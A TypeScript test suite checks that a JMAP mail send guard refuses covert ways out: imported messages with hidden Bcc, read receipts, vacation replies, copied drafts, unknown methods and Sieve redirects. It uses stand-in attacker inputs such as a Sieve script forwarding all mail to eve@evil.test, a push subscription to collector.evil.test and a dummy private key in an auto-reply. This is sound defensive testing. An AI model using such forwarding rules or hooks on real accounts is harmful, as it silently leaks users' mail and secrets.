import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { refusal, startGuardWorld, type GuardWorld } from '../helpers/guard-world.js';

/**
 * Mail leaves by more doors than a plain submission: an imported message, a copy, an automatic
 * reply, a read receipt, a Sieve redirect, or a method the guard does not know. Each is judged or
 * refused before anything of its batch reaches the server.
 */

let world: GuardWorld;
const eve = 'eve@evil.test';
const core = 'urn:ietf:params:jmap:core';
const mail = 'urn:ietf:params:jmap:mail';

beforeAll(async () => {
  world = await startGuardWorld('embedded', 'other');
});
afterEach(async () => world.clearPolicies());

function rawMessage(from: string, to: string, subject: string, extra = ''): string {
  return `From: ${from}\r\nTo: ${to}\r\n${extra}Subject: ${subject}\r\nMessage-ID: <${Date.now()}.${Math.random()}@guard.test>\r\nContent-Type: text/plain\r\n\r\nimported body\r\n`;
}

/** Blob/upload of a raw message, Email/import of it as a draft, and a submission of the import. */
function importAndSend(raw: string): unknown[] {
  return [
    [
      'Blob/upload',
      { accountId: '$ACCOUNT_ID', create: { raw: { data: [{ 'data:asText': raw }], type: 'message/rfc822' } } },
      'u',
    ],
    [
      'Email/import',
      {
        accountId: '$ACCOUNT_ID',
        emails: { m: { blobId: '#raw', mailboxIds: { $DRAFTS_MAILBOX_ID: true }, keywords: { $draft: true } } },
      },
      'i',
    ],
    [
      'EmailSubmission/set',
      { accountId: '$ACCOUNT_ID', create: { s: { emailId: '#m', identityId: '$IDENTITY_ID' } } },
      's',
    ],
  ];
}

describe('the send guard on other ways out', () => {
  it('judges an imported message by its own headers: a Bcc inside the raw message is refused', async () => {
    await world.writeUserPolicy({ send: { mode: 'allowlist', allow: [world.address.bob] } });
    const subject = 'Guard: import with bcc';
    await refusal(
      world.ops(
        world.alice,
        importAndSend(rawMessage(world.address.alice, world.address.bob, subject, `Bcc: ${eve}\r\n`)),
      ),
    );
    expect(await world.traces(subject)).toEqual({ alice: [], bob: [], outside: [] });
  });

  it('lets an imported message to an allowed recipient go, and it arrives', async () => {
    await world.writeUserPolicy({ send: { mode: 'allowlist', allow: [world.address.bob] } });
    const subject = 'Guard: import allowed';
    const result = await world.ops(
      world.alice,
      importAndSend(rawMessage(world.address.alice, world.address.bob, subject)),
    );
    expect(result.ok, result.summary).toBe(true);
    expect((await world.traces(subject)).bob).toHaveLength(1);
  });

  it('refuses an automatic reply outside open mode (it answers anyone who writes), and lets it be turned off', async () => {
    await world.writeUserPolicy({ send: { mode: 'allowlist', allow: [world.address.bob] } });
    const enable = {
      using: [core, mail, 'urn:ietf:params:jmap:vacationresponse'],
      methodCalls: [
        [
          'VacationResponse/set',
          {
            accountId: '$ACCOUNT_ID',
            update: { singleton: { isEnabled: true, subject: 'Away', textBody: 'Back soon.' } },
          },
          'v',
        ],
      ],
    };
    const error = await refusal(world.run(world.alice, { ops: enable }));
    expect(error.details).toMatchObject({ rule: { layer: 'user', rule: 'send.mode=allowlist' } });
    const read = {
      using: [core, mail, 'urn:ietf:params:jmap:vacationresponse'],
      methodCalls: [['VacationResponse/get', { accountId: '$ACCOUNT_ID', ids: null }, 'g']],
    };
    const state = await world.run(world.alice, { ops: read });
    expect((state.response?.methodResponses[0]?.[1].list as { isEnabled: boolean }[])[0]?.isEnabled).toBe(false);
    const disable = {
      ...enable,
      methodCalls: [
        ['VacationResponse/set', { accountId: '$ACCOUNT_ID', update: { singleton: { isEnabled: false } } }, 'v'],
      ],
    };
    expect((await world.run(world.alice, { ops: disable })).ok).toBe(true);
  });

  it('refuses an automatic reply under a block-list even in open mode, and one that carries a secret', async () => {
    await world.writeUserPolicy({ send: { block: ['evil.test'] } });
    const enable = (text: string) => ({
      using: [core, mail, 'urn:ietf:params:jmap:vacationresponse'],
      methodCalls: [
        [
          'VacationResponse/set',
          { accountId: '$ACCOUNT_ID', update: { singleton: { isEnabled: true, textBody: text } } },
          'v',
        ],
      ],
    });
    expect((await refusal(world.run(world.alice, { ops: enable('Away.') }))).details).toMatchObject({
      rule: { rule: 'send.block' },
    });
    await world.clearPolicies();
    const key = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----';
    const error = await refusal(world.run(world.alice, { ops: enable(`Away. ${key}`) }));
    expect(error.details).toMatchObject({ rule: { rule: 'send.secretScan' } });
    expect(error.message).not.toContain('b3BlbnNzaC1rZXktdjEAAAAA');
    const ok = await world.run(world.alice, { ops: enable('Away until Monday.') });
    expect(ok.ok, ok.summary).toBe(true);
    await world.run(world.alice, {
      ops: {
        ...enable(''),
        methodCalls: [
          ['VacationResponse/set', { accountId: '$ACCOUNT_ID', update: { singleton: { isEnabled: false } } }, 'v'],
        ],
      },
    });
  });

  it('judges a read receipt by the address the original asks it to go to', async () => {
    await world.writeUserPolicy({ send: { mode: 'allowlist', allow: [world.address.bob] } });
    const subject = 'Guard: wants a receipt';
    const stored = await world.ops(world.alice, [
      [
        'Blob/upload',
        {
          accountId: '$ACCOUNT_ID',
          create: {
            raw: {
              data: [
                {
                  'data:asText': rawMessage(
                    eve,
                    world.address.alice,
                    subject,
                    `Disposition-Notification-To: ${eve}\r\n`,
                  ),
                },
              ],
            },
          },
        },
        'u',
      ],
      [
        'Email/import',
        { accountId: '$ACCOUNT_ID', emails: { m: { blobId: '#raw', mailboxIds: { $INBOX_MAILBOX_ID: true } } } },
        'i',
      ],
    ]);
    const imported = stored.response?.methodResponses.find(([name]) => name === 'Email/import')?.[1].created as
      Record<string, { id: string }> | undefined;
    const id = imported?.m?.id;
    expect(id, JSON.stringify(stored.response)).toBeDefined();
    const receipt = {
      using: [core, mail, 'urn:ietf:params:jmap:mdn'],
      methodCalls: [
        [
          'MDN/send',
          {
            accountId: '$ACCOUNT_ID',
            identityId: '$IDENTITY_ID',
            send: {
              r: {
                forEmailId: id,
                disposition: { actionMode: 'manual-action', sendingMode: 'mdn-sent-manually', type: 'displayed' },
              },
            },
          },
          'r',
        ],
      ],
    };
    const error = await refusal(world.run(world.alice, { ops: receipt }));
    expect(error.details).toMatchObject({ recipient: eve });
    expect((await world.sandbox.outbox()).filter((e) => e.to.includes(eve) && e.subject.includes(subject))).toEqual([]);
  });

  it('refuses a Sieve script that redirects outside the allow-list, read from the blob it uploads in the same request', async () => {
    await world.writeUserPolicy({ send: { mode: 'allowlist', allow: [world.address.bob] } });
    const script = `require ["copy"];\n# forward everything\nredirect :copy "${eve}";\n`;
    const ops = {
      using: [core, mail, 'urn:ietf:params:jmap:blob', 'urn:ietf:params:jmap:sieve'],
      methodCalls: [
        ['Blob/upload', { accountId: '$ACCOUNT_ID', create: { s: { data: [{ 'data:asText': script }] } } }, 'u'],
        [
          'SieveScript/set',
          { accountId: '$ACCOUNT_ID', create: { x: { name: 'forward', blobId: '#s' } }, onSuccessActivateScript: '#x' },
          'w',
        ],
      ],
    };
    const error = await refusal(world.run(world.alice, { ops }));
    expect(error.details).toMatchObject({ recipient: eve });
  });

  it('refuses a Sieve redirect it cannot read (a variable target) and one that answers anyone (vacation) outside open mode', async () => {
    await world.writeUserPolicy({ send: { mode: 'allowlist', allow: [world.address.bob] } });
    const upload = (script: string) => ({
      using: [core, mail, 'urn:ietf:params:jmap:blob', 'urn:ietf:params:jmap:sieve'],
      methodCalls: [
        ['Blob/upload', { accountId: '$ACCOUNT_ID', create: { s: { data: [{ 'data:asText': script }] } } }, 'u'],
        ['SieveScript/set', { accountId: '$ACCOUNT_ID', create: { x: { name: 'f', blobId: '#s' } } }, 'w'],
      ],
    });
    expect(
      (
        await refusal(
          world.run(world.alice, { ops: upload('require "variables";\nset "t" "eve";\nredirect "${t}@evil.test";') }),
        )
      ).details,
    ).toMatchObject({ rule: { rule: 'unjudgeable' } });
    expect(
      (await refusal(world.run(world.alice, { ops: upload('require "vacation";\nvacation "Away";') }))).details,
    ).toMatchObject({ rule: { rule: 'send.mode=allowlist' } });
  });

  it('refuses a method it does not know outside open mode, and lets the server answer it in open mode', async () => {
    const push = [
      [
        'PushSubscription/set',
        { create: { p: { deviceClientId: 'x', url: 'https://collector.evil.test/', types: null } } },
        'p',
      ],
    ];
    expect((await world.ops(world.alice, push)).ok).toBe(false);
    await world.writeUserPolicy({ send: { mode: 'known' } });
    const error = await refusal(world.ops(world.alice, push));
    expect(error.message).toContain('PushSubscription/set');
    expect(error.details).toMatchObject({ rule: { layer: 'user', rule: 'send.mode=known' } });
  });

  it('judges a copy by the message it copies', async () => {
    await world.writeUserPolicy({ send: { mode: 'allowlist', allow: [world.address.bob] } });
    const subject = 'Guard: copied draft';
    const saved = await world.ops(world.alice, [
      [
        'Email/set',
        {
          accountId: '$ACCOUNT_ID',
          create: {
            d: {
              mailboxIds: { $DRAFTS_MAILBOX_ID: true },
              from: [{ email: '$INBOX' }],
              to: [{ email: eve }],
              subject,
              bodyValues: { b: { value: 'x' } },
              textBody: [{ partId: 'b', type: 'text/plain' }],
            },
          },
        },
        'e',
      ],
    ]);
    const id = saved.created?.[0]?.id;
    const error = await refusal(
      world.ops(world.alice, [
        [
          'Email/copy',
          {
            fromAccountId: '$ACCOUNT_ID',
            accountId: '$ACCOUNT_ID',
            create: { c: { id, mailboxIds: { $DRAFTS_MAILBOX_ID: true } } },
          },
          'c',
        ],
        [
          'EmailSubmission/set',
          { accountId: '$ACCOUNT_ID', create: { s: { emailId: '#c', identityId: '$IDENTITY_ID' } } },
          's',
        ],
      ]),
    );
    expect(error.details).toMatchObject({ recipient: eve });
    expect((await world.traces(subject)).outside).toEqual([]);
  });

  it('refuses a submission for another account', async () => {
    const error = await refusal(
      world.ops(world.alice, [
        [
          'EmailSubmission/set',
          { accountId: world.address.bob, create: { s: { emailId: 'M1', identityId: 'x' } } },
          's',
        ],
      ]),
    );
    expect(error.message).toContain('another account');
  });
});
